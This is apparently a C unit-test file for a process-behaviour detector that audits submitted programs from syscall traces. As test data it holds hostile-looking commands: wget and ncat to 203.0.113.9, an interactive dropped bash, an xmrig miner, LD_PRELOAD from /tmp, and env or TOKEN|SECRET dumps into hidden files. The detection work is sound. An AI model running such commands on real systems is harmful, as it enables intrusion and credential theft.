	cr_expect_eq(harness_max_severity(h, "process.daemon"), DA_SEV_LOW);
	const struct harness_finding *f = harness_get(h, "process.daemon");
	cr_assert(f);
	cr_expect(strstr(f->message, "did not outlive"), "%s", f->message);
	cr_expect_eq(harness_count(h, "process.signal"), 0, "its own group");
	harness_free(h);

	/* both still running when the window closes */
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_fork(h, 100, 101, 1.0, NULL);
	publish_setsid(h, 101, 1.01);
	end = ev_make(DA_EV_TARGET_EXIT, 100, 6.0);
	end.arg[0] = -1;
	end.arg[2] = 1;
	harness_publish(h, &end);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.daemon"), DA_SEV_LOW);
	harness_free(h);
}

static void publish_connect(struct harness *h, int pid, double t, const char *addr)
{
	struct da_event ev = ev_make(DA_EV_NET_CONNECT, pid, t);
	ev.syscall = "connect";
	ev.family = 2;
	ev.sock_type = 1;
	ev.addr = addr;
	ev.fd = 3;
	ev.err = ECONNREFUSED;
	ev.errname = "ECONNREFUSED";
	ev.result = -1;
	ev.text = "connect(3, {sa_family=AF_INET, ...}, 16) = -1 ECONNREFUSED";
	cr_assert_eq(harness_publish(h, &ev), 0);
}

static void publish_chmod(struct harness *h, int pid, double t, const char *path, int mode)
{
	struct da_event ev = ev_make(DA_EV_FILE_CHMOD, pid, t);
	ev.syscall = "chmod";
	ev.path = path;
	ev.raw_path = path;
	ev.mode = mode;
	ev.text = "chmod(...) = 0";
	cr_assert_eq(harness_publish(h, &ev), 0);
}

/* python writes gen/add.sh, chmods it, runs ./gen/add.sh (code generation). */
static void generate_and_run(struct harness *h, const char *path, const char *const *argv,
			     double t)
{
	publish_open(h, 100, t, path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC,
		     DA_ACC_WRITE | DA_ACC_CREATE | DA_ACC_TRUNC, 0666, NULL);
	publish_chmod(h, 100, t + 0.01, path, 0100755);
	publish_fork(h, 100, 200, t + 0.02, NULL);
	publish_exec(h, 200, t + 0.03, path, argv, NULL, 0);
	publish_exit(h, 200, t + 0.04);
}

Test(process, generated_code_in_the_workdir)
{
	static const char *const add[] = {"./gen/add.sh", "6", "3", NULL};
	struct harness *h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	generate_and_run(h, "/home/auditor/app/gen/add.sh", add, 1.0);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.exec_writable"), DA_SEV_LOW);
	cr_expect_not_null(harness_find(h, "process.exec_writable",
					"generated in its workdir: add.sh 6 3"));
	cr_expect_eq(harness_count(h, "process.exec_unlisted"), 0, "one finding per exec");
	harness_free(h);

	/* a hidden directory on the way is hiding, not generating */
	static const char *const hidden[] = {"./gen/.cache/x", NULL};
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	generate_and_run(h, "/home/auditor/app/gen/.cache/x", hidden, 1.0);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.exec_writable"), DA_SEV_HIGH);
	harness_free(h);

	/* after an inet connect (even refused) it may be a download being run */
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_connect(h, 100, 0.5, "203.0.113.9:80");
	generate_and_run(h, "/home/auditor/app/gen/add.sh", add, 1.0);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.exec_writable"), DA_SEV_HIGH);
	harness_free(h);

	/* ... or after running a network tool */
	static const char *const wget[] = {"wget", "-q", "http://203.0.113.9/x", NULL};
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_exec(h, 150, 0.5, "/usr/bin/wget", wget, NULL, 0);
	generate_and_run(h, "/home/auditor/app/gen/add.sh", add, 1.0);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.exec_writable"), DA_SEV_HIGH);
	harness_free(h);

	/* outside the workdir: /tmp, HOME */
	static const char *const tmp[] = {"/tmp/gen/add.sh", NULL};
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	generate_and_run(h, "/tmp/gen/add.sh", tmp, 1.0);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.exec_writable"), DA_SEV_HIGH);
	harness_free(h);
	static const char *const home[] = {"/home/auditor/bin/add.sh", NULL};
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	generate_and_run(h, "/home/auditor/bin/add.sh", home, 1.0);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.exec_writable"), DA_SEV_HIGH);
	harness_free(h);

	/* a shell copied into the workdir is a dropped shell */
	static const char *const sh[] = {"./gen/bash", "-i", NULL};
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	generate_and_run(h, "/home/auditor/app/gen/bash", sh, 1.0);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.exec_writable"), DA_SEV_HIGH);
	harness_free(h);
}

/* JDK 17 ProcessBuilder: vfork, exec lib/jspawnhelper, exec the program. */
Test(process, java_spawn_helper_is_the_jvms_plumbing)
{
	static const char *const command[] = {"java", "-cp", "build", "Main", NULL};
	static const char *const java[] = {"java", "-cp", "build", "Main", NULL};
	static const char *const helper[] = {"/usr/lib/jvm/java-17-openjdk-amd64/lib/jspawnhelper",
					     "17.0.15+6-Debian-1deb12u1", "12:13:15", NULL};
	static const char *const ls[] = {"ls", "-1", NULL};
	static const char *const odd[] = {"xmrig", NULL};
	struct harness *h = harness_new_run("process", NULL, NULL, NULL, command, NULL);
	publish_exec(h, 2, 0.0, "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", java, NULL, 0);
	publish_fork(h, 2, 45, 0.6, NULL);
	publish_exec(h, 45, 0.61, "/usr/lib/jvm/java-17-openjdk-amd64/lib/jspawnhelper", helper, NULL, 0);
	publish_exec(h, 45, 0.62, "/usr/local/bin/ls", ls, NULL, ENOENT);
	publish_exec(h, 45, 0.63, "/usr/bin/ls", ls, NULL, 0);
	publish_exit(h, 45, 0.64);
	publish_fork(h, 2, 46, 0.7, NULL);
	publish_exec(h, 46, 0.71, "/usr/lib/jvm/java-17-openjdk-amd64/lib/jspawnhelper", helper, NULL, 0);
	publish_exec(h, 46, 0.72, "/opt/x/xmrig", odd, NULL, 0);
	harness_finish(h);
	cr_expect_null(harness_find(h, NULL, "jspawnhelper"), "the helper is not reported");
	cr_expect_not_null(harness_find(h, "process.exec_unlisted", "ls -1"));
	cr_expect_eq(harness_max_severity(h, "process.exec_unlisted"), DA_SEV_MEDIUM,
		     "what the helper runs is judged");
	cr_expect_not_null(harness_find(h, "process.exec_unlisted", "xmrig"));
	cr_expect_str_eq(harness_observation(h), "2 child processes");
	harness_free(h);

	/* jspawnhelper run by anything but the JVM is judged like any program */
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_fork(h, 100, 101, 1.0, NULL);
	publish_exec(h, 101, 1.1, "/usr/lib/jvm/java-17-openjdk-amd64/lib/jspawnhelper", helper, NULL, 0);
	harness_finish(h);
	cr_expect_not_null(harness_find(h, "process.exec_unlisted", "jspawnhelper"));
	harness_free(h);
}

/* A process snapshot taken as cc1 exits: its command line is gone, ps
 * shows "[cc1]".  Not a masquerade; a kernel thread's name still is. */
Test(process, snapshot_of_an_exiting_program_is_no_masquerade)
{
	static const char *const cc[] = {"cc", "-O2", "-o", "gen/table", "gen/table.c", NULL};
	static const char *const cc1[] = {"/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "-quiet", NULL};
	struct harness *h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_fork(h, 100, 6, 1.0, NULL);
	publish_exec(h, 6, 1.01, "/usr/bin/cc", cc, NULL, 0);
	publish_fork(h, 6, 7, 1.02, NULL);
	publish_exec(h, 7, 1.03, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", cc1, NULL, 0);
	publish_snapshot(h, 7, NULL, "nobody        7      6 R          00:00 [cc1]");
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.masquerade"), 0);
	harness_free(h);

	/* a 15-character comm cut from a longer program name */
	static const char *const longname[] = {"./matrix_multiplier_v2", NULL};
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_exec(h, 8, 1.0, "/home/auditor/app/matrix_multiplier_v2", longname, NULL, 0);
	publish_snapshot(h, 8, NULL, "nobody        8      1 R          00:00 [matrix_multipli]");
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.masquerade"), 0);
	harness_free(h);

	/* a dying (X) row, and a pid that has already ended */
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_fork(h, 100, 9, 1.0, NULL);
	publish_exec(h, 9, 1.01, "/usr/bin/cc", cc, NULL, 0);
	publish_snapshot(h, 9, NULL, "nobody        9    100 X          00:00 [gcc-12]");
	publish_fork(h, 100, 10, 1.1, NULL);
	publish_exec(h, 10, 1.11, "/usr/bin/cc", cc, NULL, 0);
	publish_exit(h, 10, 1.2);
	publish_snapshot(h, 10, NULL, "nobody       10    100 R          00:00 [gcc-12]");
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.masquerade"), 0);
	harness_free(h);

	/* a name other than its program's, or a kernel thread's, still counts */
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_fork(h, 100, 7, 1.0, NULL);
	publish_exec(h, 7, 1.03, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", cc1, NULL, 0);
	publish_snapshot(h, 7, NULL, "nobody        7    100 S          00:00 [updater]");
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.masquerade"), 1);
	harness_free(h);
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_fork(h, 100, 7, 1.0, NULL);
	publish_exec(h, 7, 1.03, "/home/auditor/app/kworker", (const char *const[]){"kworker", NULL},
		     NULL, 0);
	publish_exit(h, 7, 1.5);
	publish_snapshot(h, 7, NULL, "nobody        7    100 R          00:00 [kworker/0:1]");
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.masquerade"), 1);
	harness_free(h);
}

/* pwd, env running a program, sync, install...: everyday tools, low. */
Test(process, everyday_tools_include_pwd_and_env)
{
	static const char *const pwd[] = {"pwd", NULL};
	static const char *const env_run[] = {"env", "python3", "x.py", NULL};
	static const char *const sync[] = {"sync", NULL};
	static const char *const inst[] = {"install", "-m", "644", "a", "b", NULL};
	struct harness *h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_exec(h, 101, 1.0, "/usr/bin/pwd", pwd, NULL, 0);
	publish_exec(h, 102, 1.1, "/usr/bin/env", env_run, NULL, 0);
	publish_exec(h, 103, 1.2, "/usr/bin/sync", sync, NULL, 0);
	publish_exec(h, 104, 1.3, "/usr/bin/install", inst, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.exec_unlisted"), 4);
	cr_expect_eq(harness_max_severity(h, "process.exec_unlisted"), DA_SEV_LOW);
	harness_free(h);

	/* env alone prints the environment: still recon */
	static const char *const env_alone[] = {"env", NULL};
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_exec(h, 101, 1.0, "/usr/bin/env", env_alone, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.recon"), DA_SEV_MEDIUM);
	cr_expect_eq(harness_count(h, "process.exec_unlisted"), 0);
	harness_free(h);
}

/* A shell's test of a command that does not exist: ENOENT on every PATH
 * entry, nothing ran.  Low; a network tool tried is still medium. */
Test(process, command_found_nowhere_is_low)
{
	static const char *const nosuch[] = {"nosuchcmd", NULL};
	struct harness *h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_fork(h, 100, 20, 1.0, NULL);
	publish_exec(h, 20, 1.01, "/usr/local/bin/nosuchcmd", nosuch, NULL, ENOENT);
	publish_exec(h, 20, 1.02, "/usr/bin/nosuchcmd", nosuch, NULL, ENOENT);
	publish_exec(h, 20, 1.03, "/bin/nosuchcmd", nosuch, NULL, ENOENT);
	publish_exit(h, 20, 1.04);
	harness_finish(h);
	const struct harness_finding *f = harness_get(h, "process.exec_unlisted");
	cr_assert(f);
	cr_expect_eq(f->severity, DA_SEV_LOW);
	cr_expect_eq(f->count, 1);
	cr_expect(strstr(f->message, "not found"), "%s", f->message);
	cr_expect(strstr(f->evidence[0], "ENOENT"), "%s", f->evidence[0]);
	harness_free(h);

	static const char *const ncat[] = {"ncat", "203.0.113.9", "4444", NULL};
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_exec(h, 21, 1.0, "/usr/bin/ncat", ncat, NULL, ENOENT);
	publish_exit(h, 21, 1.1);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.exec_unlisted"), DA_SEV_MEDIUM);
	harness_free(h);
}

/* Threads count against the task limit: a thread bomb hits it too. */
Test(process, thread_creation_hitting_the_limit_is_runaway)
{
	struct harness *h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	for (int i = 0; i < 3; i++) {
		struct da_event ev = ev_make(DA_EV_PROC_FORK, 100, 1.0 + i);
		ev.syscall = "clone";
		ev.detail = "thread";
		ev.target_pid = -1;
		ev.result = -1;
		ev.err = EAGAIN;
		ev.errname = "EAGAIN";
		ev.text = "clone(flags=CLONE_VM|CLONE_THREAD|...) = -1 EAGAIN (Resource temporarily unavailable)";
		harness_publish(h, &ev);
	}
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.runaway"), 1);
	cr_expect_eq(harness_max_severity(h, "process.runaway"), DA_SEV_MEDIUM);
	harness_free(h);
}

/* Sleeps under a second, added up by the tracer: a wait that fills the
 * window with nothing observable meanwhile is a cut-up long sleep (a line
 * printed before the naps changes nothing); a poller that shows work
 * between its naps is not. */
Test(process, short_sleeps_that_fill_the_window)
{
	for (int work = 0; work < 2; work++) {
		struct harness *h = harness_new("process", NULL, NULL);
		python_startup(h, 100);
		publish_output(h, 0.5, "monitor started");
		if (work)
			publish_output(h, 55.0, "tick 110");
		struct da_event ev = ev_make(DA_EV_SYSCALL_OTHER, 100, 60.0);
		ev.syscall = "nanosleep";
		ev.detail = "short sleeps";
		ev.arg[0] = 59;
		ev.arg[1] = 66;
		ev.text = "nanosleep(...) <66 sleeps under 1 s, 59.4 s in all, by the end of the window>";
		harness_publish(h, &ev);
		harness_finish(h);
		if (work)
			cr_expect_eq(harness_count(h, "process.long_sleep"), 0);
		else
			cr_expect_eq(harness_max_severity(h, "process.long_sleep"), DA_SEV_MEDIUM);
		harness_free(h);
	}
}

/* A server (pid 100) that accepted a client of the given family, then a
 * child running `sh -c id` or inline Python. */
static void served_then_exec(struct harness *h, int family, const char *fd_desc,
			     const char *const *argv, const char *path)
{
	python_startup(h, 100);
	struct da_event ev = ev_make(DA_EV_NET_LISTEN, 100, 0.5);
	ev.fd = 3;
	ev.family = family;
	ev.fd_desc = fd_desc;
	ev.text = "listen(3, 8) = 0";
	cr_assert_eq(harness_publish(h, &ev), 0);
	ev = ev_make(DA_EV_NET_ACCEPT, 100, 0.6);
	ev.fd = 3;
	ev.target_fd = 4;
	ev.result = 4;
	ev.family = family;
	ev.fd_desc = fd_desc;
	ev.text = "accept4(3, ...) = 4";
	cr_assert_eq(harness_publish(h, &ev), 0);
	publish_fork(h, 100, 101, 1.0, NULL);
	publish_exec(h, 101, 1.1, path, argv, NULL, 0);
	harness_finish(h);
}

Test(process, shell_after_accept_is_remote_command_execution)
{
	static const char *const sh_id[] = {"/bin/sh", "-c", "id", NULL};
	struct harness *h = harness_new("process", NULL, NULL);
	served_then_exec(h, 2, "socket:inet/stream", sh_id, "/usr/bin/dash");
	cr_expect_eq(harness_max_severity(h, "process.shell"), DA_SEV_HIGH);
	cr_expect(message_has(h, "process.shell", "remote command execution"));
	harness_free(h);

	/* the same shell from a program that only talks over a unix socket
	 * (a local helper, not a network client): a plain command string */
	h = harness_new("process", NULL, NULL);
	served_then_exec(h, 1, "socket:unix/stream", sh_id, "/usr/bin/dash");
	cr_expect_eq(harness_max_severity(h, "process.shell"), DA_SEV_LOW);
	cr_expect_not(message_has(h, "process.shell", "remote command execution"));
	harness_free(h);

	/* no server at all: low, as before */
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_fork(h, 100, 101, 1.0, NULL);
	publish_exec(h, 101, 1.1, "/usr/bin/dash", sh_id, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.shell"), DA_SEV_LOW);
	harness_free(h);
}

Test(process, inline_code_after_accept_is_high)
{
	static const char *const py[] = {"python3", "-c", "print(1)", NULL};
	struct harness *h = harness_new("process", NULL, NULL);
	served_then_exec(h, 10, "socket:inet6/stream", py, "/usr/bin/python3");
	cr_expect_eq(harness_max_severity(h, "process.inline_code"), DA_SEV_HIGH);
	cr_expect(message_has(h, "process.inline_code", "remote command execution"));
	harness_free(h);

	h = harness_new("process", NULL, NULL);
	served_then_exec(h, 1, "socket:unix/stream", py, "/usr/bin/python3");
	cr_expect_eq(harness_max_severity(h, "process.inline_code"), DA_SEV_MEDIUM);
	harness_free(h);
}

/* A preload whose libraries the submission ships in its workdir (a
 * profiler) is medium; one the run wrote there, or from /tmp, stays high. */
Test(process, workdir_preload_is_not_high_on_its_own)
{
	static const char *const py[] = {"python3", "app.py", NULL};
	static const char *const tr[] = {"true", NULL};
	struct harness *h = harness_new("process", "allow_exec: [true]\n", NULL);
	publish_exec_env(h, 100, 0.0, "/usr/bin/python3", py, NULL, NULL);
	publish_exec_env(h, 101, 1.0, "/usr/bin/true", tr,
			 "LD_PRELOAD=/home/auditor/app/libprof.so\n", NULL);
	publish_exec_env(h, 102, 1.1, "/usr/bin/true", tr, "LD_PRELOAD=./lib/shim.so\n", NULL);
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.loader_injection"), 2);
	cr_expect_eq(harness_max_severity(h, "process.loader_injection"), DA_SEV_MEDIUM);
	harness_free(h);

	h = harness_new("process", "allow_exec: [true]\n", NULL);
	publish_exec_env(h, 100, 0.0, "/usr/bin/python3", py, NULL, NULL);
	publish_open(h, 100, 0.5, "/home/auditor/app/gen.so", O_WRONLY | O_CREAT,
		     DA_ACC_WRITE | DA_ACC_CREATE, 0755, NULL);
	publish_exec_env(h, 101, 1.0, "/usr/bin/true", tr, "LD_PRELOAD=/home/auditor/app/gen.so\n", NULL);
	publish_exec_env(h, 102, 1.1, "/usr/bin/true", tr,
			 "LD_PRELOAD=/home/auditor/app/libprof.so:/tmp/.h.so\n", NULL);
	publish_exec_env(h, 103, 1.2, "/usr/bin/true", tr, "LD_PRELOAD=libfoo.so\n", NULL);
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.loader_injection"), 3);
	cr_expect_eq(harness_max_severity(h, "process.loader_injection"), DA_SEV_HIGH);
	cr_expect_not_null(harness_find(h, "process.loader_injection", "gen.so"));
	const struct harness_finding *f = harness_find(h, "process.loader_injection", "libfoo.so");
	cr_expect(f && f->severity == DA_SEV_HIGH, "a bare name is searched on the system's paths");
	harness_free(h);
}

/* tar's own `sh -c gzip` with tar and gzip allowed is tar's plumbing; an
 * allowed interpreter's shell, or one running an unlisted program, is not. */
Test(process, an_allowed_programs_own_shell)
{
	static const char *const tar[] = {"tar", "czf", "out.tgz", "data", NULL};
	static const char *const sh_gzip[] = {"/bin/sh", "-c", "gzip", NULL};
	static const char *const sh_curl[] = {"/bin/sh", "-c", "gzip; curl x", NULL};
	static const char *const py[] = {"python3", "app.py", NULL};
	struct harness *h = harness_new("process", "allow_exec: [tar, gzip]\n", NULL);
	publish_exec(h, 100, 0.0, "/usr/bin/tar", tar, NULL, 0);
	publish_fork(h, 100, 101, 0.1, NULL);
	publish_exec(h, 101, 0.2, "/bin/sh", sh_gzip, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.shell"), 0);
	harness_free(h);

	h = harness_new("process", "allow_exec: [tar, gzip]\n", NULL);
	publish_exec(h, 100, 0.0, "/usr/bin/tar", tar, NULL, 0);
	publish_fork(h, 100, 101, 0.1, NULL);
	publish_exec(h, 101, 0.2, "/bin/sh", sh_curl, NULL, 0);
	harness_finish(h);
	cr_expect_neq(harness_count(h, "process.shell"), 0, "curl is not listed (and a network tool)");
	harness_free(h);

	h = harness_new("process", "allow_exec: [python3, gzip]\n", NULL);
	publish_exec(h, 100, 0.0, "/usr/bin/python3", py, NULL, 0);
	publish_fork(h, 100, 101, 0.1, NULL);
	publish_exec(h, 101, 0.2, "/bin/sh", sh_gzip, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.shell"), DA_SEV_LOW, "python's shell is the submission's");
	harness_free(h);
}

/* A delayed chain: quiet, then a shell writing a hidden file and listing
 * the system.  At once, or without the hidden file and the survey, low. */
Test(process, delayed_shell_chain)
{
	static const char *const py[] = {"python3", "app.py", NULL};
	static const char *const chain[] = {"/bin/sh", "-c", "echo x > /tmp/.upd; uname -a; ls /", NULL};
	static const char *const hidden[] = {"/bin/sh", "-c", "touch .marker", NULL};
	static const char *const plain[] = {"/bin/sh", "-c", "echo done > out.txt", NULL};
	static const struct {
		const char *const *argv;
		double t;
		int severity;
	} cases[] = {
		{chain, 3.0, DA_SEV_HIGH}, {hidden, 3.0, DA_SEV_MEDIUM}, {plain, 3.0, DA_SEV_LOW},
		{chain, 0.5, DA_SEV_LOW},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct harness *h = harness_new("process", "allow_exec: [python3]\n", NULL);
		publish_exec(h, 100, 0.0, "/usr/bin/python3", py, NULL, 0);
		publish_fork(h, 100, 101, cases[i].t - 0.05, NULL);
		publish_exec(h, 101, cases[i].t, "/bin/sh", cases[i].argv, NULL, 0);
		harness_finish(h);
		cr_expect_eq(harness_max_severity(h, "process.shell"), cases[i].severity, "case %zu", i);
		harness_free(h);
	}
}

/* Credentials filtered or the environment dumped into a (hidden) file. */
Test(process, secrets_harvested_to_files)
{
	static const char *const grep[] = {"grep", "-E", "TOKEN|SECRET", NULL};
	static const char *const tr[] = {"tr", "\\0", "\\n", NULL};
	static const char *const env[] = {"env", NULL};
	static const char *const sort[] = {"sort", "keys.txt", NULL};
	static const char *const grep_file[] = {"grep", "-c", "a", "api_keys.txt", NULL};
	const char *to_hidden[3] = {"pipe", "/home/auditor/app/.envdump", "pipe"};
	const char *from_environ[3] = {"/proc/100/environ", "/tmp/.e", "pipe"};
	const char *to_file[3] = {"pipe", "/home/auditor/app/env.txt", "pipe"};
	const char *to_pipe[3] = {"pipe", "pipe", "pipe"};
	struct harness *h = harness_new("process", "allow_exec: [sh, grep, tr, env, sort]\n", NULL);
	publish_exec_full(h, 100, 1, 0.0, "/bin/sh", (const char *const[]){"sh", "h.sh", NULL}, NULL, 0, NULL, NULL);
	publish_exec_full(h, 101, 100, 0.1, "/usr/bin/grep", grep, NULL, 0, to_hidden, NULL);
	publish_exec_full(h, 102, 100, 0.2, "/usr/bin/tr", tr, NULL, 0, from_environ, NULL);
	publish_exec_full(h, 103, 100, 0.3, "/usr/bin/env", env, NULL, 0, to_file, NULL);
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.secret_harvest"), 3);
	const struct harness_finding *f = harness_find(h, "process.secret_harvest", ".envdump");
	cr_expect(f && f->severity == DA_SEV_HIGH);
	f = harness_find(h, "process.secret_harvest", "env.txt");
	cr_expect(f && f->severity == DA_SEV_MEDIUM, "an ordinary file: medium");
	harness_free(h);

	h = harness_new("process", "allow_exec: [sh, grep, tr, env, sort]\n", NULL);
	publish_exec_full(h, 100, 1, 0.0, "/bin/sh", (const char *const[]){"sh", "b.sh", NULL}, NULL, 0, NULL, NULL);
	publish_exec_full(h, 101, 100, 0.1, "/usr/bin/env", env, NULL, 0, to_pipe, NULL);
	publish_exec_full(h, 102, 100, 0.2, "/usr/bin/sort", sort, NULL, 0, to_file, NULL);
	publish_exec_full(h, 103, 100, 0.3, "/usr/bin/grep", grep_file, NULL, 0, to_file, NULL);
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.secret_harvest"), 0);
	harness_free(h);
}

/* More than 128 run-phase threads, none failing: a thread bomb under the
 * task limit.  A handful of workers is not. */
Test(process, thread_bomb_under_the_task_limit)
{
	static const char *const py[] = {"python3", "app.py", NULL};
	for (int n = 8; n <= 200; n += 192) {
		struct harness *h = harness_new("process", "allow_exec: [python3]\n", NULL);
		publish_exec(h, 100, 0.0, "/usr/bin/python3", py, NULL, 0);
		for (int i = 0; i < n; i++) {
			struct da_event ev = ev_make(DA_EV_PROC_FORK, 100, 0.1 + i * 0.001);
			ev.syscall = "clone";
			ev.target_pid = 1000 + i;
			ev.result = 1000 + i;
			ev.detail = "thread";
			ev.text = "clone(...CLONE_THREAD...) = tid";
			cr_assert_eq(harness_publish(h, &ev), 0);
		}
		harness_finish(h);
		if (n > 128)
			cr_expect_eq(harness_max_severity(h, "process.runaway"), DA_SEV_MEDIUM);
		else
			cr_expect_eq(harness_count(h, "process.runaway"), 0);
		harness_free(h);
	}
}

/* `#!/usr/bin/env bash`: the kernel runs env on the script, env runs
 * `bash SCRIPT ARGS` in the same process.  That bash is the script's own
 * interpreter (pyenv's shims and libexec scripts), and a -c after SCRIPT
 * is the script's argument, not a command string. */
Test(process, env_shebang_interpreter_is_not_a_new_shell)
{
	struct harness *h = harness_new("process", "allow_exec: [python3, pyenv-which]\n", NULL);
	python_startup(h, 100);
	publish_fork(h, 100, 101, 1.0, NULL);
	static const char *const tool[] = {"pyenv-which", "python3", NULL};
	publish_exec(h, 101, 1.1, "/usr/local/libexec/pyenv-which", tool, NULL, 0);
	/* (the kernel runs env itself: no exec event of env; env's own
	 * search for bash along PATH fails first) */
	static const char *const miss[] = {"bash", "/usr/local/libexec/pyenv-which", "-c", "print(1)", NULL};
	publish_exec(h, 101, 1.2, "/usr/local/bin/bash", miss, NULL, ENOENT);
	static const char *const sh[] = {"bash", "/usr/local/libexec/pyenv-which", "-c", "print(1)", NULL};
	publish_exec(h, 101, 1.3, "/usr/bin/bash", sh, NULL, 0);
	/* the same with strace -s cutting the script's name in a replay */
	publish_fork(h, 100, 102, 1.4, NULL);
	publish_exec(h, 102, 1.5, "/usr/local/libexec/pyenv-which", tool, NULL, 0);
	static const char *const cut[] = {"bash", "/usr/local/libexec/pyenv-w...", "python3", NULL};
	publish_exec(h, 102, 1.6, "/usr/bin/bash", cut, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_count(h, "process.shell"), 0, "the script's interpreter is no shell of its own");
	harness_free(h);

	/* a shell running another script, or a -c before the operand: shells */
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_fork(h, 100, 103, 2.0, NULL);
	publish_exec(h, 103, 2.1, "/usr/local/libexec/pyenv-which", tool, NULL, 0);
	static const char *const other[] = {"bash", "/tmp/x.sh", NULL};
	publish_exec(h, 103, 2.2, "/usr/bin/bash", other, NULL, 0);
	harness_finish(h);
	cr_expect_eq(harness_max_severity(h, "process.shell"), DA_SEV_HIGH, "bash /tmp/x.sh is a shell");
	harness_free(h);
	h = harness_new("process", NULL, NULL);
	python_startup(h, 100);
	publish_fork(h, 100, 104, 2.3, NULL);
	static const char *const opt[] = {"bash", "-o", "pipefail", "-c", "id | cat", NULL};
	publish_exec(h, 104, 2.4, "/usr/bin/bash", opt, NULL, 0);
	harness_finish(h);
	cr_expect(message_has(h, "process.shell", "id | cat"), "-o takes a value; the -c after it is read");
	harness_free(h);
}
